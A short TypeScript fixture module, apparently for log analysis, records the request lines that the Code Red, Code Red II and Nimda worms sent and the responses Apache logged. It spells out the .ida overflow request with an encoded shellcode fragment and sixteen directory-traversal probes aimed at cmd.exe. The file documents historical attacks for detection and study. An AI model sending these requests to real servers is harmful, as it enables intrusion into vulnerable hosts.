// For: what Code Red, Code Red II and Nimda asked for, exactly, and what Apache answered and wrote (worm-scan.md section 2).
// Never: the bodies; no log shows them.

import type { Request } from "./access-line.ts";

const shellcode = "%u9090%u6858%ucbd3%u7801".repeat(3);
const tail = "%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a";

/** The two spaces before HTTP/1.0 are logged as one; the answer is 400. */
function overflow(filler: string): Request {
  return {
    line: `GET /default.ida?${filler.repeat(224)}${shellcode}${tail} HTTP/1.0`,
    status: 400,
    bytes: 236,
  };
}

export const codeRed: Request = overflow("N");
export const codeRedII: Request = overflow("X");

const targets = [
  "/scripts/root.exe",
  "/MSADC/root.exe",
  "/c/winnt/system32/cmd.exe",
  "/d/winnt/system32/cmd.exe",
  "/scripts/..%255c../winnt/system32/cmd.exe",
  "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
  "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
  "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe",
  "/scripts/..%c1%1c../winnt/system32/cmd.exe",
  "/scripts/..%c0%2f../winnt/system32/cmd.exe",
  "/scripts/..%c0%af../winnt/system32/cmd.exe",
  "/scripts/..%c1%9c../winnt/system32/cmd.exe",
  "/scripts/..%%35%63../winnt/system32/cmd.exe",
  "/scripts/..%%35c../winnt/system32/cmd.exe",
  "/scripts/..%25%35%63../winnt/system32/cmd.exe",
  "/scripts/..%252f../winnt/system32/cmd.exe",
];

/** The sixteen probes in their order. */
export const nimda: readonly Request[] = targets.map((target) => {
  const isBadEscape = target.includes("%%");
  return {
    line: `GET ${target}?/c+dir HTTP/1.0`,
    status: isBadEscape ? 400 : 404,
    bytes: isBadEscape ? 236 : 240,
  };
});
